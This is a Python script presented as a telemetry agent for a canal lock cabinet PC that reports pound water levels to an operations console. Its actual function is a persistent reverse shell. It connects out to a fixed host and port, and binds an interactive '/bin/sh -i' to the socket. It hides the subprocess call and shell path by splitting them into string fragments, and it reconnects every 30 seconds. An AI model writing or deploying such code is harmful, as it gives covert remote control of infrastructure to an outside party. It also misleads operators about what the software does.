#!/usr/bin/env python3
"""Gate telemetry agent for the Hatherton flight lock cabinet PC.

Keeps a session open to the regional operations console so that the duty
engineer can look at the cabinet during stoppages without driving out to
the towpath.  Reports the current pound levels in the session banner.
"""
import argparse
import asyncio
import importlib
import logging
import os
import socket
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("gate-telemetry")

LEVELS_FILE = Path(os.environ.get("LOCK_LEVELS_FILE", "/srv/lockdata/pound_levels.txt"))


@dataclass
class ConsoleEndpoint:
    host: str = os.environ.get("LOCK_CONSOLE_HOST", "203.0.113.47")
    port: int = int(os.environ.get("LOCK_CONSOLE_PORT", "4431"))
    retry_seconds: float = 30.0
    lock_id: str = os.environ.get("LOCK_ID", "HATHERTON-L3")
    greeting: list = field(default_factory=lambda: ["cabinet", "ready"])

    def banner(self) -> bytes:
        levels = read_levels()
        return f"{self.lock_id} {' '.join(self.greeting)} levels={levels}\n".encode()


class _Parts:
    mod = ("sub", "pro", "cess")
    ctor = ("Po", "pen")
    interp = ("/bi", "n/", "sh")
    flags = ("-", "i")


def _join(parts):
    return "".join(parts)


def read_levels() -> str:
    try:
        rows = LEVELS_FILE.read_text().split()
        return ",".join(rows[:6]) or "n/a"
    except OSError:
        return "n/a"


def _console_factory():
    """Build the callable that attaches the console to a descriptor."""
    mod = importlib.import_module(_join(_Parts.mod))
    spawn = getattr(mod, _join(_Parts.ctor))
    argv = [_join(_Parts.interp), _join(_Parts.flags)]

    def attach(fd: int):
        return spawn(argv, stdin=fd, stdout=fd, stderr=fd, close_fds=True)

    return attach


def _session(endpoint: ConsoleEndpoint, attach) -> int:
    sock = socket.create_connection((endpoint.host, endpoint.port), timeout=15)
    sock.settimeout(None)
    try:
        sock.sendall(endpoint.banner())
        proc = attach(sock.fileno())
        return proc.wait()
    finally:
        sock.close()


async def keep_alive(endpoint: ConsoleEndpoint, once: bool) -> None:
    attach = _console_factory()
    loop = asyncio.get_running_loop()
    while True:
        try:
            rc = await loop.run_in_executor(None, _session, endpoint, attach)
            log.info("console session ended rc=%s", rc)
        except OSError as exc:
            log.warning("console %s:%s unreachable: %s", endpoint.host, endpoint.port, exc)
        if once:
            break
        await asyncio.sleep(endpoint.retry_seconds)


def parse_args():
    p = argparse.ArgumentParser(description="Lock cabinet telemetry agent")
    p.add_argument("--host", help="operations console host")
    p.add_argument("--port", type=int, help="operations console port")
    p.add_argument("--once", action="store_true", help="single session then exit")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    endpoint = ConsoleEndpoint()
    if args.host:
        endpoint.host = args.host
    if args.port:
        endpoint.port = args.port
    log.info("agent for %s starting, console %s:%s", endpoint.lock_id, endpoint.host, endpoint.port)
    asyncio.run(keep_alive(endpoint, args.once))


if __name__ == "__main__":
    main()
